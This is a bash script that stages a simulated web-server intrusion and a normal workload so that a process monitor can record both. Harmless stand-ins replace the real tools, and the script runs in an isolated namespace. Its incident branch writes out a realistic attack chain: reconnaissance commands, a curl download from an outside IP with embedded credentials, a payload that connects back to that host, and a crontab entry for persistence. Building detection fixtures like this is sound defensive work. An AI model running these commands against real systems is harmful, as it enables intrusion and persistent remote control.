#!/bin/bash
# Plays what incident.mwr and usual.mwr hold, with harmless stand-ins: here nginx and cron are copies of a shell, and curl,
# crontab, convert and the rest are copies of true(1), which does nothing. All of it in a mount namespace of its own, with
# files in memory that are gone at the end; no network is used. Needs root.
#
#   moonwatch record -o incident.mwr --for 3s & sleep 1; bash stage.sh incident
#   moonwatch record -o usual.mwr --for 3s & sleep 1; bash stage.sh usual
set -eu
if [ "${2-}" != inside ]; then
  exec unshare --mount bash "$0" "$1" inside
fi

for directory in /usr/local /tmp; do
  mount -t tmpfs none "$directory"
done
mkdir -p /usr/local/sbin /usr/local/bin /usr/local/lib
chmod 1777 /tmp
cp /bin/dash /usr/local/sbin/nginx
cp /bin/dash /usr/local/sbin/cron
for name in curl crontab convert logrotate rsync git; do
  cp /bin/true "/usr/local/bin/$name"
done
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
cd /

# Each line that comes in is a request for which a page runs a shell, or a job.
echo 'while read -r line; do sh -c "$line"; done' >/usr/local/lib/lines
echo 'setpriv --reuid=33 --regid=33 --clear-groups nginx /usr/local/lib/lines; true' >/usr/local/lib/master

server() { (exec -a "nginx: master process" nginx /usr/local/lib/master) >/dev/null; }
jobs() { (exec -a "/usr/sbin/cron" cron /usr/local/lib/lines) >/dev/null; }

say() { sleep 0.2 && printf '%s\n' "$1"; }

if [ "$1" = incident ]; then
  {
    say 'convert /var/www/upload/17.jpg -resize 200x200 /var/www/small/17.jpg'
    say 'id; uname -a'
    say 'curl -s -u deploy:correct-horse http://198.51.100.7/u -o /tmp/.u; cp /bin/true /tmp/.u; chmod 755 /tmp/.u'
    say '/tmp/.u --connect 198.51.100.7:443'
    say 'echo "* * * * * /tmp/.u" | crontab -'
  } | server
else
  {
    for picture in 18 19 20 21; do
      say "convert /var/www/upload/$picture.jpg -resize 200x200 /var/www/small/$picture.jpg"
    done
  } | server &
  {
    say 'logrotate /etc/logrotate.conf'
    say 'rsync -a /var/www backup.example.org:www'
    say 'curl -fsS https://status.example.org/ping/7'
    say 'cd /srv/site 2>/dev/null; git pull -q'
  } | jobs
  wait
fi
